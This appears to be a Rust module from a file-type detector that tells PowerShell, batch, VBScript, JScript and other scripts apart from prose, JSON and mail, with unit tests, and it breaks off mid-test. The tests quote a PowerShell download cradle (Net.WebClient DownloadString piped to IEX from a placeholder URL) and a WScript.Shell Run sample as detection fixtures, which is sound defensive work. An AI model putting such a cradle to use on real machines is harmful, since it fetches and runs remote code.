//! Text and scripts by content: the interpreters a user's machine would hand
//! the file to. Scripts are told from prose by indicators that prose does
//! not use; one indicator is never enough, so a mail that mentions
//! `Invoke-WebRequest` stays text.
//!
//! All indicators are found in one case-insensitive pass over the first
//! 4 KiB (`super::indicators`); nothing is copied for ASCII and UTF-8 text.

use super::indicators::{COUNT, Family, INDICATORS, IndicatorSet};
use super::{FileType, known};
use crate::format::keys::{self, KeyBytes};

/// How much of a file is read to classify text.
const WINDOW: usize = 4 << 10;

/// Lines that begin a batch command: counted towards the share of a text
/// that reads as batch, never enough on their own (prose starts lines with
/// "Set", "Start" and "Call" too).
const BATCH_STARTS: &[&str] = &[
    "set ",
    "setlocal",
    "endlocal",
    "goto ",
    "call ",
    "if ",
    "for ",
    "start ",
    "cmd ",
    "cmd.exe ",
    "rem ",
    "rem\r",
    "echo ",
    "echo.",
    "del ",
    "copy ",
    "xcopy ",
    "move ",
    "mkdir ",
    "md ",
    "rd ",
    "rmdir ",
    "cd ",
    "pushd ",
    "popd",
    "reg ",
    "schtasks ",
    "bitsadmin ",
    "certutil ",
    "powershell",
    "exit",
    "pause",
    "title ",
    "color ",
    "cls",
    "timeout ",
    "taskkill ",
    "::",
    ":",
    ")",
];

/// The indicators, compiled once per detector.
pub(crate) struct ScriptMatcher {
    indicators: IndicatorSet,
}

impl ScriptMatcher {
    pub(crate) fn new() -> Self {
        ScriptMatcher {
            indicators: IndicatorSet::new(),
        }
    }

    /// Classifies bytes that infer did not recognise (or called text).
    pub(crate) fn classify_text(&self, data: &[u8]) -> FileType {
        self.classify_keyed(data).0
    }

    /// [`classify_text`](Self::classify_text), and the key bytes of the
    /// head that the pass over it found: the detector asks a text for its
    /// key bytes, and need then read only what follows the head.
    pub(crate) fn classify_keyed(&self, data: &[u8]) -> (FileType, HeadKeys) {
        let head = &data[..data.len().min(WINDOW)];
        // One pass over the head's bytes for all that they tell.
        let (bytes, decoded) = decode(head);
        let keys = HeadKeys {
            keys: bytes.keys,
            len: head.len(),
        };
        (self.classify_decoded(data, head, bytes, decoded), keys)
    }

    /// The rest of [`classify_keyed`](Self::classify_keyed), once `head`
    /// is decoded.
    fn classify_decoded(
        &self,
        data: &[u8],
        head: &[u8],
        bytes: HeadBytes,
        decoded: Option<(std::borrow::Cow<'_, str>, bool)>,
    ) -> FileType {
        let (text, utf16): (std::borrow::Cow<'_, str>, bool) = match decoded {
            Some(t) => t,
            None if super::mail::is_message_with_binary_body(data) => return known::EMAIL,
            None => return known::DATA,
        };
        let trimmed = text.trim_start_matches('\u{feff}').trim_start();
        let cut = head.len() < data.len();
        // JSON is data: words in its strings are no reason to call it a
        // script, and it is told apart faster than the indicators are.
        // It is told before mail: a line of JSON that reads as a header
        // field starts with a quoted key (a field's name has no quotes)
        // or a literal, so JSON never holds the two known fields that
        // make a message, and a chat export's hundreds of lines are not
        // read as fields first.
        if (trimmed.starts_with('{') || trimmed.starts_with('['))
            && looks_like_json(trimmed, cut)
            && super::json::is_json(trimmed.as_bytes(), cut)
        {
            return known::JSON;
        }
        // A header block at the start decides, whatever the body holds.
        if !utf16 && super::mail::is_message_in(&text, data) {
            return known::EMAIL;
        }
        // One pass: which distinct indicators occur.
        let mut seen = [false; COUNT];
        // Prose without any of these characters holds no indicator worth
        // the pass (each indicator, or its family's quorum, needs one).
        if bytes.code {
            self.indicators.find(text.as_bytes(), &mut seen);
        }
        if let Some(t) = script_type(&text, &seen) {
            return t;
        }
        let starts = |p: &str| {
            trimmed
                .get(..p.len())
                .is_some_and(|s| s.eq_ignore_ascii_case(p))
        };
        // The flags are set only where the indicator pass ran.
        let html_tags = bytes.code && count(&seen, Family::Html) > 0;
        if starts("<!doctype html") || starts("<html") || (trimmed.starts_with('<') && html_tags) {
            return known::HTML;
        }
        if starts("<?xml") || starts("<svg") {
            return known::XML;
        }
        if (trimmed.starts_with('{') || trimmed.starts_with('[')) && looks_like_json(trimmed, cut) {
            return known::JSON;
        }
        if !utf16
            && cut
            && let Some(t) = self.script_past_comments(data)
        {
            return t;
        }
        if utf16 {
            known::UTF16_TEXT
        } else {
            known::TEXT
        }
    }

    /// The script type of the code that follows a text's leading comments
    /// and blank lines, when they fill half the head or more: interpreters skip
    /// them, so a script is not to pass as text by starting with 4 KiB of
    /// them (a licence, or padding). Only a script type is taken from
    /// there; the text is otherwise typed by its head.
    fn script_past_comments(&self, data: &[u8]) -> Option<FileType> {
        let code = after_comments(data);
        // A head that is half code or more has been read for what it is
        // (most source files open with a licence shorter than that).
        if code < WINDOW / 2 || code >= data.len() {
            return None;
        }
        let window = &data[code..data.len().min(code + WINDOW)];
        let (bytes, decoded) = decode(window);
        let (text, utf16) = decoded?;
        if utf16 {
            return None;
        }
        let mut seen = [false; COUNT];
        if bytes.code {
            self.indicators.find(text.as_bytes(), &mut seen);
        }
        script_type(&text, &seen)
    }
}

/// Where a text's first line of code starts, past its leading blank lines,
/// line comments (`#`, `//`, `'`, `;`, `::`, `rem`), comment blocks (`<#
/// #>`, `/* */`, `<!-- -->`) and PowerShell here-strings (`@'` to `'@`,
/// text that is only assigned): 0 when it starts with code. A block left
/// open runs to the end. Linear in what it skips, found by memchr.
fn after_comments(data: &[u8]) -> usize {
    let find = |from: usize, what: &[u8]| {
        memchr::memmem::find(&data[from..], what).map_or(data.len(), |i| from + i + what.len())
    };
    let mut pos = 0;
    while pos < data.len() {
        let rest = &data[pos..];
        let line_len = memchr::memchr(b'\n', rest).map_or(rest.len(), |i| i + 1);
        let line = &rest[..line_len];
        let t = line.trim_ascii_start();
        let rem = t.get(..3).is_some_and(|w| w.eq_ignore_ascii_case(b"rem"))
            && t.get(3).is_none_or(|b| b.is_ascii_whitespace());
        let at = pos + (line.len() - t.len());
        if t.starts_with(b"<#") {
            pos = find(at + 2, b"#>");
        } else if t.starts_with(b"/*") {
            pos = find(at + 2, b"*/");
        } else if t.starts_with(b"<!--") {
            pos = find(at + 4, b"-->");
        } else if t.is_empty()
            || [&b"#"[..], b"//", b"'", b";", b"::", b"@rem "]
                .iter()
                .any(|c| t.starts_with(c))
            || rem
        {
            pos += line_len;
        } else if is_here_string(line) {
            // To the line that closes it (`'@` or `"@` at its start).
            let close: &[u8] = if line.trim_ascii_end().ends_with(b"@'") {
                b"\n'@"
            } else {
                b"\n\"@"
            };
            pos = find(pos + line_len - 1, close);
        } else {
            break;
        }
    }
    pos.min(data.len())
}

/// A line that only assigns a PowerShell here-string: `$name = @'` or
/// `$name = @"` (the string's lines follow).
fn is_here_string(line: &[u8]) -> bool {
    let l = line.trim_ascii();
    (l.ends_with(b"@'") || l.ends_with(b"@\"")) && l.starts_with(b"$") && {
        let assign = &l[1..l.len() - 2];
        let (name, eq) = assign.split_at(
            assign
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b':'))
                .unwrap_or(assign.len()),
        );
        !name.is_empty() && eq.trim_ascii() == b"="
    }
}

/// How many distinct indicators of family `f` were seen. Prose skips the
/// indicator pass, and then nothing is counted.
fn count(seen: &[bool], f: Family) -> usize {
    if !seen.contains(&true) {
        return 0;
    }
    INDICATORS
        .iter()
        .zip(seen)
        .filter(|(i, s)| **s && i.1 == f)
        .count()
}

/// The script type of a text, if its content (and the indicators found in
/// it) says so.
fn script_type(text: &str, seen: &[bool]) -> Option<FileType> {
    {
        let body = text.trim_start_matches('\u{feff}').trim_start();
        if body.starts_with("#!") {
            let line = body.lines().next().unwrap_or("");
            return Some(if line.contains("python") {
                known::PYTHON
            } else if line.contains("sh") {
                known::SHELL
            } else {
                known::SCRIPT
            });
        }
        let first = body.lines().next().unwrap_or("").trim();
        if ["@echo off", "@echo on", "echo off"].iter().any(|p| {
            first
                .get(..p.len())
                .is_some_and(|s| s.eq_ignore_ascii_case(p))
        }) {
            return Some(known::BATCH);
        }
        // Without any indicator (prose: most texts), no family below has
        // its quorum: each count would be 0, and each would look through
        // every indicator's flag to say so.
        if !seen.contains(&true) {
            return None;
        }
        let count = |f: Family| count(seen, f);
        let has = |p: &str| INDICATORS.iter().zip(seen).any(|(i, s)| *s && i.0 == p);
        if count(Family::Hta) > 0 {
            return Some(known::HTA);
        }
        if count(Family::WshXml) > 0 && is_wsh_xml(body) {
            return Some(known::WSH);
        }
        let ps = count(Family::PowerShell);
        let wsh = count(Family::Wsh);
        let vbs = count(Family::Vbs);
        let js = count(Family::Js);
        let batch = count(Family::Batch);
        // Without the indicators that any family below needs, the answer
        // is None whatever the text reads as: the line-by-line readings
        // (the costly part, on every text) are left out.
        if ps < 2 && vbs < 4 && batch == 0 && wsh < 3 && (wsh == 0 || (vbs < 2 && js < 2)) {
            return None;
        }
        if is_other_language(body) || reads_as_prose(body) {
            return None;
        }
        let ps_syntax = || text.contains('$') && (text.contains(" = ") || text.contains("| "));
        if ps >= 3 || (ps >= 2 && ps_syntax()) {
            return Some(known::POWERSHELL);
        }
        if wsh >= 1 && has("activexobject") && js >= 2 {
            return Some(known::JSCRIPT);
        }
        if (wsh >= 1 && vbs >= 2) || vbs >= 4 {
            return Some(known::VBSCRIPT);
        }
        if wsh >= 1 && js >= 3 {
            return Some(known::JSCRIPT);
        }
        // Three of the Windows Script Host's objects and calls (an HTTP
        // request, a stream saved to a file, the shell): a downloader
        // written without the statements that tell its language.
        if wsh >= 3 {
            return Some(if has("activexobject") {
                known::JSCRIPT
            } else {
                known::VBSCRIPT
            });
        }
        if batch == 0 {
            return None;
        }
        is_batch(body).then_some(known::BATCH)
    }
}

/// A Windows Script Host file in XML: its first element (after any XML
/// declaration and comments) is a `<job>`, `<package>`, `<scriptlet>` or
/// `<component>`, and it holds a `<script>`.
fn is_wsh_xml(body: &str) -> bool {
    let mut rest = body;
    loop {
        rest = rest.trim_start();
        if rest.starts_with("<?") {
            match rest.find("?>") {
                Some(i) => rest = &rest[i + 2..],
                None => return false,
            }
        } else if rest.starts_with("<!--") {
            match rest.find("-->") {
                Some(i) => rest = &rest[i + 3..],
                None => return false,
            }
        } else {
            break;
        }
    }
    let lower = rest.get(..12).unwrap_or(rest).to_ascii_lowercase();
    ["<job", "<package", "<scriptlet", "<component"]
        .iter()
        .any(|r| lower.starts_with(r) && lower[r.len()..].starts_with([' ', '>', '\r', '\n', '\t']))
        && body.to_ascii_lowercase().contains("<script")
}

/// True when a text is written in a markup or a documentation format, or
/// is a program in another language, that script hosts do not run: troff
/// (man pages), XML and HTML, Markdown or reStructuredText (which quote
/// commands in code blocks), C. Such a text is a script only by its name.
fn is_other_language(body: &str) -> bool {
    let mut lines = body.lines().map(str::trim_end).filter(|l| !l.is_empty());
    let first = lines.next().unwrap_or("");
    const TROFF: &[&str] = &[
        ".\\\"", "'\\\"", ".TH ", ".Dd", ".Dt ", ".so ", ".de ", ".ds ", ".nr ", ".ig", ".SH ",
        ".Sh ", ".TL", ".lf ", ".pl ", ".EQ", ".PP", ".LP",
    ];
    // `<#` opens a PowerShell comment block, not markup.
    if TROFF.iter().any(|p| first.starts_with(p))
        || (first.starts_with('<') && !first.starts_with("<#"))
        || first.starts_with("#include")
    {
        return true;
    }
    // ASP pages (`<% ... %>`, which VBScript cannot parse), Markdown fences,
    // reStructuredText directives and literal blocks.
    body.contains("\n<%")
        || body.contains("\n```")
        || body.starts_with("```")
        || body.contains("\n~~~")
        || body.contains("\n.. ")
        || body.contains("::\n\n    ")
        || body.contains("::\r\n\r\n    ")
}

/// True when most lines of a text are sentences: five words or more, most
/// of them plain words. A how-to that names `Invoke-WebRequest` and
/// `Start-Process` in its steps is prose; the lines of a script are
/// assignments, calls and pipes. Comment lines count for neither.
fn reads_as_prose(body: &str) -> bool {
    let mut lines = 0usize;
    let mut prose = 0usize;
    for l in body.lines().take(200) {
        let l = l.trim();
        if l.is_empty()
            || ["'", "#", "//", "rem ", "REM ", "<#", "::", ";", "*", "/*"]
                .iter()
                .any(|c| l.starts_with(c))
        {
            continue;
        }
        lines += 1;
        let mut words = 0usize;
        let mut plain = 0usize;
        for w in l.split_whitespace() {
            words += 1;
            let w = w.trim_end_matches([',', '.', ';', ':', '!', '?', ')']);
            let w = w.trim_start_matches('(');
            if !w.is_empty()
                && w.chars()
                    .all(|c| c.is_alphabetic() || c == '\'' || c == '-')
            {
                plain += 1;
            }
        }
        if words >= 5 && plain * 10 >= words * 7 {
            prose += 1;
        }
    }
    lines > 0 && prose * 2 > lines
}

/// A batch file by its syntax: lines of batch that prose and other
/// languages do not write (`set NAME=`, `if not exist`, `goto label`,
/// `exit /b`, `%~dp0`, `%%i`, `>nul`), at least two of them, and most of
/// the text's lines reading as batch commands.
fn is_batch(body: &str) -> bool {
    let mut lines = 0usize;
    let mut commands = 0usize;
    let mut syntax = 0usize;
    for l in body.lines().take(200) {
        let l = l.trim();
        if l.is_empty() {
            continue;
        }
        lines += 1;
        let l = l.strip_prefix('@').unwrap_or(l);
        let lower = l.to_ascii_lowercase();
        if BATCH_STARTS.iter().any(|k| lower.starts_with(k)) {
            commands += 1;
        }
        if batch_syntax(&lower) {
            syntax += 1;
        }
    }
    syntax >= 2 && commands * 2 >= lines
}

/// A line that only batch writes this way.
fn batch_syntax(l: &str) -> bool {
    let word = |s: &str| {
        !s.is_empty()
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-' || b == b'.')
    };
    if l.contains("%~") || l.contains("%%") || l.contains(">nul") || l.contains("> nul") {
        return true;
    }
    if let Some(rest) = l.strip_prefix("set ") {
        // `set NAME=value`, `set /a`, `set /p`, `set "NAME=value"`.
        let rest = rest.trim_start();
        if rest.starts_with("/a ") || rest.starts_with("/p ") || rest.starts_with('"') {
            return true;
        }
        return rest.split_once('=').is_some_and(|(name, _)| word(name));
    }
    if let Some(rest) = l.strip_prefix("goto ") {
        return word(rest.trim().trim_start_matches(':'));
    }
    if let Some(rest) = l.strip_prefix("call ") {
        let rest = rest.trim_start();
        return rest.starts_with(':') || rest.contains(".bat") || rest.contains(".cmd");
    }
    if let Some(rest) = l.strip_prefix("if ") {
        let rest = rest.trim_start();
        let rest = rest.strip_prefix("not ").unwrap_or(rest).trim_start();
        return ["exist ", "errorlevel ", "defined ", "/i ", "\"%", "%"]
            .iter()
            .any(|k| rest.starts_with(k));
    }
    if let Some(rest) = l.strip_prefix("for ") {
        let rest = rest.trim_start();
        return rest.starts_with("/f ")
            || rest.starts_with("/l ")
            || rest.starts_with("/d ")
            || rest.starts_with("/r ");
    }
    if let Some(rest) = l.strip_prefix("start ") {
        let rest = rest.trim_start();
        return rest.starts_with("\"\"")
            || rest.starts_with("/b ")
            || rest.starts_with("/min ")
            || rest.starts_with("/wait ");
    }
    [
        "setlocal",
        "endlocal",
        "exit /b",
        "echo off",
        "echo on",
        "echo.",
        "pause",
        "rd /s",
        "rmdir /s",
        "del /",
        "copy /y",
        "xcopy /",
        "cd /d ",
        "reg add ",
        "reg delete ",
        "schtasks /",
        "bitsadmin /",
        "cmd /c ",
        "cmd.exe /c ",
        "cmd /k ",
        "taskkill /",
        "timeout /t ",
    ]
    .iter()
    .any(|k| {
        l.starts_with(k)
            && (k.ends_with(' ')
                || k.ends_with('/')
                || l.len() == k.len()
                || !l.as_bytes()[k.len()].is_ascii_alphanumeric())
    })
}

/// Text when the bytes are text: UTF-8 (a sequence cut at the window's edge
/// is fine; borrowed, not copied), a legacy 8-bit encoding, or UTF-16 with
/// a BOM or with the zero bytes of ASCII in UTF-16. Control characters
/// other than white space are allowed only sparsely, NUL never.
fn decode(head: &[u8]) -> (HeadBytes, Option<(std::borrow::Cow<'_, str>, bool)>) {
    fn text<'a>(head: &'a [u8], bytes: &HeadBytes) -> Option<(std::borrow::Cow<'a, str>, bool)> {
        if let Some(f) = crate::format::utf16::form(head) {
            return utf16(&head[f.skip..], f.big).map(|s| (s.into(), true));
        }
        // No NUL, and at most 1% control bytes other than white space and
        // escape; more where the text holds a block of the Script Encoder,
        // whose encoding writes DEL (0x7f) among printable characters.
        if bytes.nul
            || (bytes.controls * 100 > head.len() && !crate::format::screnc::holds_block(head))
        {
            return None;
        }
        if !bytes.high {
            // Bytes below 0x80 are ASCII: UTF-8 as they are.
            // SAFETY: `bytes` is the pass over this very `head` (made in
            // `decode`), and it found no byte past 0x7f.
            return Some((unsafe { std::str::from_utf8_unchecked(head) }.into(), false));
        }
        match std::str::from_utf8(head) {
            Ok(s) => Some((s.into(), false)),
            Err(e) if e.error_len().is_none() => std::str::from_utf8(&head[..e.valid_up_to()])
                .ok()
                .map(|s| (s.into(), false)),
            // Text in a legacy 8-bit encoding (Latin-1, Windows-1252,
            // KOI8-R): mail with an 8bit body, a script with an accented
            // comment. Read byte for byte as Latin-1: what tells a type
            // apart here is ASCII, and a byte that is not UTF-8 must not
            // make a message or a script pass as data.
            Err(_) => Some((
                head.iter()
                    .map(|&b| char::from(b))
                    .collect::<String>()
                    .into(),
                false,
            )),
        }
    }
    // The pass is made here, with the text it vouches for (the ASCII
    // shortcut trusts it), and no other caller can pair them otherwise.
    let bytes = head_bytes(head);
    (bytes, text(head, &bytes))
}

/// The key bytes of the first `len` bytes of an object, found by the pass
/// over its head.
#[derive(Debug, Clone, Copy)]
pub(crate) struct HeadKeys {
    keys: KeyBytes,
    len: usize,
}

impl HeadKeys {
    /// The key bytes of all of `data`, the object whose head they are:
    /// those of the head, and of what follows it, looked at now.
    pub(crate) fn of_all(self, data: &[u8]) -> KeyBytes {
        self.keys.then(&data[self.len.min(data.len())..])
    }
}

/// What one pass over the bytes of a text's head tells.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct HeadBytes {
    /// The key bytes it holds (`format::keys`), looked up in the same
    /// pass, for the detector's checks of a text.
    keys: KeyBytes,
    /// Control bytes other than white space and escape.
    controls: usize,
    /// A NUL byte.
    nul: bool,
    /// A character that code uses and prose mostly does not, or the CRLF
    /// line ends of Windows (a batch file can be written without any of
    /// those characters: `if not exist x goto fail`): `$ ( < % = @ ; {`
    /// or CR.
    code: bool,
    /// A byte past ASCII.
    high: bool,
}

/// [`HeadBytes`] of `b`. Every text object's first 4 KiB pass through
/// here, so it runs with AVX2 where the CPU has it (twice the lanes of the
/// x86-64 baseline): one pass where there were six (NUL, control bytes,
/// three searches for the code characters, and the UTF-8 check of ASCII).
fn head_bytes(b: &[u8]) -> HeadBytes {
    #[cfg(target_arch = "x86_64")]
    if std::arch::is_x86_feature_detected!("avx2") {
        // SAFETY: the CPU has AVX2, checked just above.
        return unsafe { head_bytes_avx2(b) };
    }
    count_head(b)
}

/// [`count_head`] with AVX2, 32 bytes a turn: each byte's class is looked
/// up by its two nibbles (two shuffles and an and), where the compiler's
/// vectors of `count_head` make a compare for each byte value it tests.
/// Bits of a class: 0 to 2, a control byte (below 0x10 but for the white
/// space, 0x10 to 0x1f but escape, and DEL); 3, NUL; 4 to 7, the code
/// characters (`$ % (`, `; < =`, `@`, `{`). CR, a code character among the
/// control rows, is compared for alone.
#[cfg(target_arch = "x86_64")]
#[target_feature(enable = "avx2")]
fn head_bytes_avx2(b: &[u8]) -> HeadBytes {
    use std::arch::x86_64::*;
    // By low nibble: which bits' byte sets hold a byte with it.
    const LOW: [u8; 16] = {
        let mut t = [0u8; 16];
        let mut l = 0;
        while l < 16 {
            let mut c = 0u8;
            if !matches!(l, 0x9 | 0xa | 0xc | 0xd) {
                c |= 1;
            }
            if l != 0xb {
                c |= 2;
            }
            if l == 0xf {
                c |= 4;
            }
            if l == 0 {
                c |= 8 | 64;
            }
            if matches!(l, 4 | 5 | 8) {
                c |= 16;
            }
            if matches!(l, 0xb..=0xd) {
                c |= 32;
            }
            if l == 0xb {
                c |= 128;
            }
            t[l] = c;
            l += 1;
        }
        t
    };
    // By high nibble (bytes past 0x7f are in no set).
    const HIGH: [u8; 16] = [1 | 8, 2, 16, 32, 64, 0, 0, 4 | 128, 0, 0, 0, 0, 0, 0, 0, 0];
    let (low, high) = (keys::nibble_table(LOW), keys::nibble_table(HIGH));
    let key_tables = keys::KeysAvx2::new();
    let nibble = _mm256_set1_epi8(0x0f);
    let (one, control_bits) = (_mm256_set1_epi8(1), _mm256_set1_epi8(7));
    let cr = _mm256_set1_epi8(b'\r' as i8);
    let zero = _mm256_setzero_si256();
    let (mut classes, mut crs, mut bytes_or) = (zero, zero, zero);
    let (mut lanes, mut sums, mut key_bits) = (zero, zero, zero);
    let mut rounds = 0u8;
    let mut blocks = b.chunks_exact(32);
    for block in &mut blocks {
        // SAFETY: `block` is 32 bytes; `loadu` takes any alignment.
        let v = unsafe { _mm256_loadu_si256(block.as_ptr().cast()) };
        let (lo_nibble, hi_nibble) = (
            _mm256_and_si256(v, nibble),
            _mm256_and_si256(_mm256_srli_epi16(v, 4), nibble),
        );
        let lo = _mm256_shuffle_epi8(low, lo_nibble);
        let hi = _mm256_shuffle_epi8(high, hi_nibble);
        let class = _mm256_and_si256(lo, hi);
        // The key bytes, by the same nibbles.
        key_bits = _mm256_or_si256(key_bits, key_tables.bits(lo_nibble, hi_nibble));
        // 1 for a control byte, 0 else.
        let control = _mm256_min_epu8(_mm256_and_si256(class, control_bits), one);
        lanes = _mm256_add_epi8(lanes, control);
        classes = _mm256_or_si256(classes, class);
        crs = _mm256_or_si256(crs, _mm256_cmpeq_epi8(v, cr));
        bytes_or = _mm256_or_si256(bytes_or, v);
        // A lane holds at most 255.
        rounds += 1;
        if rounds == u8::MAX {
            sums = _mm256_add_epi64(sums, _mm256_sad_epu8(lanes, zero));
            lanes = zero;
            rounds = 0;
        }
    }
    sums = _mm256_add_epi64(sums, _mm256_sad_epu8(lanes, zero));
    let mut words = [0u64; 4];
    // SAFETY: `words` is 32 bytes; `storeu` takes any alignment.
    unsafe { _mm256_storeu_si256(words.as_mut_ptr().cast(), sums) };
    let mut seen = [0u8; 32];
    // SAFETY: as above.
    unsafe { _mm256_storeu_si256(seen.as_mut_ptr().cast(), classes) };
    let seen = seen.iter().fold(0u8, |a, &c| a | c);
    let tail = count_head(blocks.remainder());
    HeadBytes {
        keys: keys::KeysAvx2::keys(key_bits, blocks.remainder()),
        controls: words.iter().map(|&w| w as usize).sum::<usize>() + tail.controls,
        nul: seen & 8 != 0 || tail.nul,
        code: seen & 0xf0 != 0 || _mm256_movemask_epi8(crs) != 0 || tail.code,
        high: _mm256_movemask_epi8(bytes_or) != 0 || tail.high,
    }
}

/// Counted in 32 byte-wide lanes, so that it vectorises whole: one count
/// and three flags per lane, each a compare and an add or an or.
#[inline(always)]
fn count_head(b: &[u8]) -> HeadBytes {
    let control = |c: u8| {
        let ws = (c == b'\t') | (c == b'\n') | (c == b'\r') | (c == 0x0c) | (c == 0x1b);
        u8::from(((c < 0x20) & !ws) | (c == 0x7f))
    };
    let code = |c: u8| {
        u8::from(
            (c == b'$')
                | (c == b'(')
                | (c == b'<')
                | (c == b'%')
                | (c == b'=')
                | (c == b'@')
                | (c == b';')
                | (c == b'{')
                | (c == b'\r'),
        )
    };
    let sum = |lanes: &[u8; 32]| lanes.iter().map(|&l| usize::from(l)).sum::<usize>();
    let any = |lanes: &[u8; 32]| lanes.iter().fold(0u8, |a, &l| a | l) != 0;
    let mut total = 0usize;
    let mut lanes = [0u8; 32];
    let (mut nul, mut coded, mut high) = ([0u8; 32], [0u8; 32], [0u8; 32]);
    let mut rounds = 0u8;
    let mut blocks = b.chunks_exact(32);
    for block in &mut blocks {
        for i in 0..32 {
            let c = block[i];
            lanes[i] += control(c);
            nul[i] |= u8::from(c == 0);
            coded[i] |= code(c);
            high[i] |= c >> 7;
        }
        // A lane holds at most 255.
        rounds += 1;
        if rounds == u8::MAX {
            total += sum(&lanes);
            lanes = [0; 32];
            rounds = 0;
        }
    }
    total += sum(&lanes);
    let mut out = HeadBytes {
        keys: KeyBytes::of(b),
        controls: total,
        nul: any(&nul),
        code: any(&coded),
        high: any(&high),
    };
    for &c in blocks.remainder() {
        out.controls += usize::from(control(c));
        out.nul |= c == 0;
        out.code |= code(c) != 0;
        out.high |= c >= 0x80;
    }
    out
}

fn utf16(b: &[u8], big_endian: bool) -> Option<String> {
    let s = crate::format::utf16::decode(b, big_endian);
    let total = s.chars().count();
    let bad = s.chars().filter(|&c| c == '\u{fffd}').count();
    let control = s
        .chars()
        .filter(|&c| c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x1b'))
        .count();
    let nul = s.contains('\0');
    (!nul && bad * 100 <= total && control * 100 <= total).then_some(s)
}

fn looks_like_json(s: &str, cut: bool) -> bool {
    let t = s.trim_end();
    (cut || t.ends_with('}') || t.ends_with(']'))
        && (s.contains("\":") || s.contains("\" :") || starts_an_array(s))
}

/// True when `s` starts as a JSON array does: `[` and then a value (or the
/// array's end). An INI file's `[section]` (a `.desktop` or `.url`
/// launcher among them) does not.
fn starts_an_array(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('[').map(str::trim_start) else {
        return false;
    };
    // A literal, whole: `[true]` is an array, `[tool.poetry]` a TOML table.
    let literal = ["true", "false", "null"].iter().any(|w| {
        rest.strip_prefix(w).is_some_and(|after| {
            !after.starts_with(|c: char| c.is_alphanumeric() || "._-".contains(c))
        })
    });
    literal
        || rest
            .bytes()
            .next()
            .is_none_or(|c| matches!(c, b'{' | b'[' | b'"' | b'-' | b'0'..=b'9' | b']'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classify(b: &[u8]) -> FileType {
        ScriptMatcher::new().classify_text(b)
    }

    #[test]
    fn script_encoder_blocks_are_text_for_all_their_del_bytes() {
        // The encoding writes DEL among printable characters: past the 1%
        // of control bytes that makes bytes data, unless a block is there.
        let block = b"#@~^CAAAAA==\x7f\x7f\x7fabcde\x7fBAAAAA==^#~@";
        assert_eq!(classify(block), known::TEXT);
        let mut no_header = block.to_vec();
        no_header[4] = b'!';
        assert_eq!(classify(&no_header), known::DATA);
    }

    #[test]
    fn prose_mentioning_powershell_stays_text() {
        let t = b"Hi Bob, please don't run Invoke-WebRequest on the server again. Thanks!";
        assert_eq!(classify(t), known::TEXT);
    }

    #[test]
    fn download_cradle_is_powershell() {
        let t = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))";
        assert_eq!(classify(t), known::POWERSHELL);
    }

    #[test]
    fn a_how_to_naming_cmdlets_stays_text() {
        let t = b"How to update the agent\n\n1. Open PowerShell as an administrator, please.\n\
            2. Download it with Invoke-WebRequest (the URL is on the wiki page).\n\
            3. Run it with Start-Process and wait for it to finish.\n\
            4. If Invoke-Expression is blocked, ask IT; never use Net.WebClient.\n";
        assert_eq!(classify(t), known::TEXT);
    }

    #[test]
    fn json_quoting_script_is_json_and_script_in_braces_is_not() {
        let export = br#"{"messages": [{"from": "ann", "text": "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))"}]}"#;
        assert_eq!(classify(export), known::JSON);
        let lines = b"{\"t\": \"var a = eval(b);\"}\n{\"t\": \"function (x) { return x; };\"}\n";
        assert_eq!(classify(lines), known::JSON);
        let js = b"{ var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\"); }";
        assert_ne!(classify(js), known::JSON);
    }

    #[test]
    fn batch_by_first_line() {
        assert_eq!(classify(b"@echo off\r\nstart calc.exe\r\n"), known::BATCH);
    }

    #[test]
    fn utf16_text_is_text() {
        let s: Vec<u8> = "hello world, plain words"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        assert_eq!(classify(&s), known::UTF16_TEXT);
    }

    #[test]
    fn csv_is_text() {
        assert_eq!(classify(b"name,amount\nbob,3\nalice,4\n"), known::TEXT);
    }

    #[test]
    fn head_bytes_are_counted_alike_on_every_path() {
        let b: Vec<u8> = (0..50_000u32).map(|i| (i * 37 % 256) as u8).collect();
        let expected = b
            .iter()
            .filter(|&&c| (c < 0x20 && !matches!(c, 9 | 10 | 13 | 0x0c | 0x1b)) || c == 0x7f)
            .count();
        let all = HeadBytes {
            keys: KeyBytes::of(&b),
            controls: expected,
            nul: true,
            code: true,
            high: true,
        };
        assert_eq!(every_path(&b), all);
        // Each flag alone, in a lane and in the tail past the last lane.
        for at in [5usize, 70] {
            for (byte, want) in [
                (0u8, "nul"),
                (b'=', "code"),
                (b'\r', "code"),
                (b'{', "code"),
                (0xc3, "high"),
                (1, "controls"),
            ] {
                let mut t = vec![b'a'; 71];
                t[at] = byte;
                let h = every_path(&t);
                let got = [
                    (h.nul, "nul"),
                    (h.code, "code"),
                    (h.high, "high"),
                    (h.controls > 0, "controls"),
                ];
                for (on, name) in got {
                    // NUL is a control byte too.
                    let expected = name == want || (byte == 0 && name == "controls");
                    assert_eq!(on, expected, "{byte:#x} at {at}: {name}");
                }
            }
        }
        assert_eq!(
            head_bytes(b"plain words\n"),
            HeadBytes {
                keys: KeyBytes::of(b""),
                ..HeadBytes::default()
            }
        );
    }

    /// The pass on every path this CPU has, each checked against the
    /// scalar one.
    fn every_path(b: &[u8]) -> HeadBytes {
        let want = count_head(b);
        #[cfg(target_arch = "x86_64")]
        if std::arch::is_x86_feature_detected!("avx2") {
            // SAFETY: the CPU has AVX2, checked just above.
            assert_eq!(unsafe { head_bytes_avx2(b) }, want, "AVX2");
        }
        assert_eq!(head_bytes(b), want);
        want
    }

    #[test]
    fn head_bytes_classify_every_byte_value_as_the_scalar_pass_does() {
        for c in 0..=255u8 {
            for at in [0usize, 31, 33, 64, 100, 130] {
                let mut t = vec![b'a'; 131];
                t[at] = c;
                every_path(&t);
                every_path(&t[..at + 1]);
            }
        }
        // Every lane full at each turn, past the 255 turns a lane holds.
        for c in [1u8, 0x7f, 0x1f, 0] {
            let t = vec![c; 64 * 600 + 39];
            assert_eq!(every_path(&t).controls, t.len());
        }
    }

    #[test]
    fn code_starts_past_comments_blank_lines_and_here_strings() {
        let code = |s: &str| after_comments(s.as_bytes());
